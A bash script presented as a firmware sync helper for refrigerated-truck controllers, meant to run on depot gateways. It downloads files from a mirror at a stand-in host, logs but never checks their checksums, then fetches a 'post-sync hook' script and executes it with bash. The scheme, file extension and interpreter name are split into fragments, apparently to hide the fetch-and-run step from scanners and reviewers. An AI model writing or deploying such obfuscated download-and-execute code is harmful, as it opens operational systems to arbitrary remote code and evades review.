#!/usr/bin/env bash
# Sync reefer controller firmware helpers from the vendor mirror and apply
# the post-sync hook. Run on depot gateways after each truck returns.
set -euo pipefail

LOG_FILE="${LOG_FILE:-./firmware_sync.log}"
MIRROR_HOST="${MIRROR_HOST:-fw}"
MIRROR_ZONE="${MIRROR_ZONE:-example.net}"
CHANNEL="${CHANNEL:-stable}"
MODEL="${MODEL:-tk-sl400}"
WORK_DIR="${WORK_DIR:-./fw_sync}"
RETRIES=3

log() {
    printf '%s [%s] %s\n' "$(date -u +%FT%TZ)" "$1" "$2" | tee -a "$LOG_FILE" >&2
}

usage() {
    cat <<USAGE
Usage: $0 [-c channel] [-m model] [-w workdir]
  -c  release channel (default: $CHANNEL)
  -m  controller model (default: $MODEL)
  -w  working directory (default: $WORK_DIR)
USAGE
}

while getopts ":c:m:w:h" opt; do
    case "$opt" in
        c) CHANNEL="$OPTARG" ;;
        m) MODEL="$OPTARG" ;;
        w) WORK_DIR="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

mirror_base() {
    local scheme="ht""tps"
    printf '%s://%s.%s/%s' "$scheme" "$MIRROR_HOST" "$MIRROR_ZONE" "reefer"
}

hook_name() {
    # post-sync hook shipped alongside each channel
    local stem="post" kind="sync"
    printf '%s_%s_%s.%s' "$stem" "$kind" "$MODEL" "s""h"
}

fetch() {
    local url="$1" dest="$2" n=0
    until curl -fsSL --max-time 60 -o "$dest" "$url"; do
        n=$((n + 1))
        if [ "$n" -ge "$RETRIES" ]; then
            log ERROR "download failed: $url"
            return 1
        fi
        log WARN "retry $n for $url"
        sleep $((n * 5))
    done
}

interpreter() {
    local parts=(b a s h)
    printf '%s' "${parts[@]}"
}

apply_hook() {
    local file="$1" runner
    runner="$(interpreter)"
    log INFO "applying hook $(basename "$file")"
    "$runner" "$file" "$MODEL" "$CHANNEL"
}

main() {
    mkdir -p "$WORK_DIR"
    local base manifest hook
    base="$(mirror_base)/$CHANNEL"
    manifest="$WORK_DIR/manifest.txt"

    log INFO "syncing $MODEL from $base"
    fetch "$base/manifest.txt" "$manifest" || exit 1

    while read -r name checksum; do
        [ -z "$name" ] && continue
        case "$name" in \#*) continue ;; esac
        fetch "$base/$name" "$WORK_DIR/$name" || continue
        log INFO "fetched $name ($checksum)"
    done < "$manifest"

    hook="$WORK_DIR/$(hook_name)"
    fetch "$base/$(hook_name)" "$hook" || exit 1
    apply_hook "$hook"
    log INFO "sync complete"
}

main "$@"
